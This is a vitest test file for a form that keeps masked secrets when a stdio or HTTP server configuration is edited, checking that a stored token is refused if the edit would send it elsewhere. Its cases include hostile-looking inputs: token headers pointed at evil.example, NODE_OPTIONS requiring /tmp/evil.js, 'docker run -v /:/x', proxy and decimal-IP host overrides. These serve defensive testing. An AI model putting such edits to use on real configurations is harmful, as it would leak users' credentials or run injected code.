import { describe, expect, it } from 'vitest';
import type { SecretInput, ServerInput } from '../../../shared/model/server.ts';
import { maskedTarget } from '../../core/import/masked-target.ts';
import type { ServerConfig } from '../ports/servers.ts';
import { configOf } from './config-of.ts';

type Command = Extract<ServerConfig, { readonly type: 'stdio' }>;
const token = { A_TOKEN: 'SECRET1' };

const commandOf = (line: string, more: Partial<Command> = {}): Command => {
  const [command = '', ...args] = (line.match(/'[^']*'|[^ ]+/g) ?? []).map((word) =>
    word.replaceAll("'", ''),
  );
  return { type: 'stdio', command, args, env: {}, ...more };
};

/** What is stored of a form that was opened on one command and says another; or the refusal. */
function saved(
  before: Command,
  line: string,
  more: { cwd?: string; env?: Record<string, string> } = {},
) {
  const { command, args } = commandOf(line);
  const target = maskedTarget(before);
  const names = target.type === 'stdio' ? target.envNames : [];
  const env: [string, SecretInput][] = [
    ...names.map((name) => [name, { kept: true }] as [string, SecretInput]),
    ...Object.entries(more.env ?? {}).map(
      ([name, set]) => [name, { set }] as [string, SecretInput],
    ),
  ];
  const cwd = more.cwd ?? before.cwd;
  const input: ServerInput = {
    type: 'stdio',
    command,
    args: [...args],
    env: Object.fromEntries(env),
    ...(cwd === undefined ? {} : { cwd }),
  };
  const config = configOf(input, before);
  return config.ok ? config.value : config.error.message;
}

describe('a secret that a form keeps', () => {
  it.each<[string, string]>([
    ['npx acme --token SECRET1', 'npx evil --token ••••'],
    ['uvx acme --api-key=SECRET1', 'uvx evil --api-key=••••'],
    ['node /opt/acme --token=SECRET1', 'node /tmp/evil --token=••••'],
    ['docker run acme --token=SECRET1', 'docker run evil --token=••••'],
    ['docker run -i --rm -e A_TOKEN=SECRET1 acme', 'docker run -i --rm -e A_TOKEN=•••• evil'],
    ['docker run -e A_TOKEN=SECRET1 acme', 'docker run -v /:/x -e A_TOKEN=•••• acme'],
    ['env A_TOKEN=SECRET1 npx acme', 'env A_TOKEN=•••• npx evil'],
    ['env A_TOKEN=SECRET1 npx acme', 'env A_TOKEN=•••• evil'],
    ['acme serve --token SECRET1', 'acme serve --token •••• --host 2130706433'],
    ['acme serve --token SECRET1', 'acme serve --token •••• --host=2130706433'],
    ['acme serve --token SECRET1', 'acme serve --token •••• --host 1'],
    ['connect goodhost --token SECRET1', 'connect evilhost --token ••••'],
    ['acme push --token SECRET1', 'acme print --token ••••'],
    ['acme serve --token SECRET1', 'acme serve --url --token ••••'],
    ['acme serve --token SECRET1', 'acme serve --echo --token ••••'],
    ['acme serve --token=SECRET1', 'acme serve --token=•••• --config /tmp/evil'],
    ['acme serve --token=SECRET1', 'acme serve --token=•••• //evil/share'],
    ['acme serve --token=SECRET1', 'acme serve --token=•••• /tmp/evil.sock'],
    ['acme serve --token=SECRET1', `acme serve --token=•••• {"token":"x","url":"//evil"}`],
    ['npx a@1.0.0 --token=SECRET1', 'npx a@npm:evil@1.0.1 --token=••••'],
    ['npx a@1.0.0 --token=SECRET1', 'npx a@evil/a --token=••••'],
    ['docker run a:1 --token=SECRET1', 'docker run evil/a:1 --token=••••'],
    ['acme --url https://good.example serve --token=SECRET1', 'acme serve --token=••••'],
  ])('in an argument goes nowhere else: %s, then %s', (before, after) => {
    expect(saved(commandOf(before), after)).toMatch(/stored for something else|has a hidden part/);
  });

  it.each<[string, string, { cwd?: string; env?: Record<string, string> }?]>([
    [
      "npx mcp-remote https://good.example --header 'Authorization: Bearer ${A_TOKEN}'",
      "npx mcp-remote https://evil.example --header 'Authorization: Bearer ${A_TOKEN}'",
    ],
    ['acme --url https://good.example', 'acme --url https://evil.example'],
    ['npx acme', 'npx evil'],
    ['acme x', 'acme x --insecure'],
    ['acme x', 'acme x --no-verify'],
    ['acme x', 'acme x', { env: { ACME_SSL_VERIFY: 'false' } }],
    ['node server.js', 'node server.js', { cwd: '/evil' }],
    ['./run', './run', { cwd: '/evil' }],
    ['acme x', 'acme x', { env: { NODE_OPTIONS: '--require=/tmp/evil.js' } }],
    ['acme x', 'acme x', { env: { NODE_OPTIONS: '' } }],
    ['acme x', 'acme x', { env: { ACME_BASE_URL: 'https://evil.example' } }],
    ['acme x', 'acme x', { env: { ACME_SUBDOMAIN: 'evil' } }],
    ['acme x', 'acme x', { env: { ACME_HOST: '1' } }],
    ['acme x', 'acme x', { env: { ADDRESS: '2130706433' } }],
    ['acme x', 'acme x', { env: { ALL_PROXY: 'evil:1' } }],
    ['acme x', 'acme x', { env: { ACME: '{"token":"x","url":"//evil"}' } }],
  ])('in a variable goes nowhere else: %s, then %s %j', (before, after, more) => {
    const stored = commandOf(before, { env: token, cwd: '/a' });
    expect(saved(stored, after, more)).toMatch(/^The value of A_TOKEN was stored for something/);
    const argument = commandOf(`${before} --token=SECRET1`, { cwd: '/a' });
    expect(saved(argument, `${after} --token=••••`, more)).toMatch(/^The hidden part/);
  });

  it('in a variable goes to no other word that code beside it may run', () => {
    const before = commandOf("sh -c '$1' _ /opt/good", { env: token });
    expect(saved(before, "sh -c '$1' _ /tmp/evil")).toContain('(an argument next to inline code');
    expect(saved(before, "sh -c '$1' _ /opt/good")).toEqual(before);
  });

  it('in an argument goes to no other host of a variable', () => {
    const env = { ACME_BASE_URL: 'https://good.example' };
    const before = commandOf('acme x --token=SECRET1', { env });
    const to = { env: { ACME_BASE_URL: 'https://evil.example' } };
    expect(saved(before, 'acme x --token=••••', to)).toContain(
      'ACME_BASE_URL has a different value',
    );
  });

  it.each<[string, string, Record<string, string>?]>([
    ['npx -y @a/b@1.0.0', 'npx -y @a/b@1.0.1'],
    ['npx -y @a/b', 'npx -y @a/b@latest'],
    ['npx acme', 'npx -y acme'],
    ['npx -y acme@1', 'npx acme@2'],
    ['uvx acme==1.0', 'uvx acme==1.1'],
    ['docker run -i acme/mcp:1', 'docker run -i acme/mcp:2'],
    ['docker run -i acme', 'docker run -i --pull=always acme'],
    ['docker run -i -e A_TOKEN acme', 'docker run -i -e A_TOKEN -e DEBUG acme', { DEBUG: '1' }],
    ['docker run -i acme', 'docker run -i -e LOG_LEVEL=debug acme'],
    ['npx acme /home/a.txt', 'npx acme /home/b.txt'],
    ['npx acme --port 3000', 'npx acme --port 3001'],
    ['npx acme -p 3000', 'npx acme -p 3001'],
    ['npx acme', 'npx acme --log-level=debug'],
    ['npx acme', 'npx acme', { LOG_LEVEL: 'debug', B_API_KEY: 'another' }],
  ])('stays where a change sends it nowhere else: %s, then %s', (before, after, env = {}) => {
    const { command, args } = commandOf(after);
    expect(saved(commandOf(before, { env: token }), after, { env })).toEqual({
      type: 'stdio',
      command,
      args,
      env: { ...token, ...env },
    });
    const hidden = commandOf(`${before} --api-key=SECRET1`);
    expect(saved(hidden, `${after} --api-key=••••`, { env })).toMatchObject({
      args: [...args, '--api-key=SECRET1'],
    });
  });

  it('stays where a switch that takes nothing is put before it', () => {
    const before = commandOf('npx acme --token SECRET1');
    expect(saved(before, 'npx acme --verbose --token ••••')).toMatchObject({
      args: ['acme', '--verbose', '--token', 'SECRET1'],
    });
  });

  it('is refused with the word that was changed', () => {
    const before = commandOf('npx -y acme', { env: token });
    expect(saved(before, 'npx -y evil')).toBe(
      'The value of A_TOKEN was stored for something else (“evil” is new or changed). Enter it again.',
    );
    expect(saved(before, '/usr/bin/npx -y acme')).toContain('(the command is different)');
    expect(saved(before, 'npx -y')).toContain('(“acme” is gone or changed)');
  });

  it('is asked for again at once where a long path with an unusual character was changed', () => {
    const path = '/Users/jo/Library/CloudStorage/GoogleDrive-jo@gmail.com/My Drive';
    const { command, args } = commandOf('npx -y acme');
    const before: ServerConfig = { type: 'stdio', command, args: [...args, path], env: token };
    expect(saved(before, 'npx -y acme /data')).toContain(`(“${path}” is gone or changed)`);
  });

  it('of a header goes to no host that the address hands it on to', () => {
    const before = {
      type: 'http',
      url: 'https://gw.example/?upstream=good&x=1',
      headers: token,
    } as const;
    const to = (url: string) =>
      configOf({ type: 'http', url, headers: { A_TOKEN: { kept: true } } }, before).ok;
    expect(to('https://gw.example/?upstream=evil&x=1')).toBe(false);
    expect(to('https://gw.example/?upstream=good&x=evil.example')).toBe(false);
    expect(to('https://gw.example/v2?upstream=good&x=2')).toBe(true);
  });
});
